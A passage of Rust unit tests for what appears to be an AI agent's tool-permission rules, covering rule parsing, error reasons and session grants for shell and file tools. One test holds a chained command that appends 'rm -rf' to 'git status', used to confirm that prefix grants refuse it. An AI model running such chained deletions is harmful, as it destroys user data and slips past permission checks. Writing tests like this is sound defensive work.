            .decide(&Call {
                tool: "shell",
                args: &json!({"command": "git log"}),
                workspace: Path::new(WS),
            })
            .unwrap();
        assert_eq!(dec.source, Source::Session);
        assert!(!r.is_empty());
    }

    #[test]
    fn bad_rules_are_refused_with_a_reason() {
        for (text, reason) in [
            ("shell(", "must end with `)`"),
            ("shell()", "empty specifier"),
            ("she ll", "a tool name"),
            ("sh*ell", "may only end"),
            ("shell(npm *:*)", "prefix form"),
            ("file_manager__read(!docs)", "negated"),
            ("file_manager__read(~/x)", "`~/`"),
            ("web_fetch(domain:)", "host name"),
            ("web_fetch(domain:http://x)", "host name"),
            ("mcp__fs__w(path:[)", "unclosed"),
        ] {
            let e = Rule::parse(text, Source::Deployment).unwrap_err();
            assert!(e.to_string().contains(reason), "{text}: {e}");
            assert!(e.to_string().contains(text.trim()), "{e}");
        }
        // Claude Code's `Bash(...)` is the shell.
        let r = rules(&["Bash(ls:*)"], &[], &[], Source::Deployment);
        assert_eq!(sh(&r, "ls -a"), d(Allow, "Bash(ls:*)"));
    }

    #[test]
    fn a_session_grant_names_the_approved_tool_and_matches_the_call() {
        let ws = Path::new(WS);
        let git = json!({"command": "git status"});
        let call = Call {
            tool: "shell",
            args: &git,
            workspace: ws,
        };
        assert_eq!(
            session_grant(" shell(git *) ", &call).unwrap(),
            "shell(git *)"
        );
        for (text, why) in [
            ("shell(npm *)", "does not match the approved call"),
            ("file_manager__write", "must name the approved tool `shell`"),
            ("sh*", "must name the approved tool `shell`"),
            ("shell(", "must end with `)`"),
        ] {
            let e = session_grant(text, &call).unwrap_err();
            assert!(e.contains(why), "{text}: {e}");
        }
        // A compound command is never granted by a prefix.
        let compound = json!({"command": "git status && rm -rf x"});
        let e = session_grant(
            "shell(git *)",
            &Call {
                tool: "shell",
                args: &compound,
                workspace: ws,
            },
        )
        .unwrap_err();
        assert!(e.contains("does not match"), "{e}");
        let write = json!({"path": "docs/a/b.md"});
        let call = Call {
            tool: "file_manager__write",
            args: &write,
            workspace: ws,
        };
        assert!(session_grant("file_manager__write(docs/a/**)", &call).is_ok());
        assert!(session_grant("file_manager__write(src/**)", &call).is_err());
    }
}
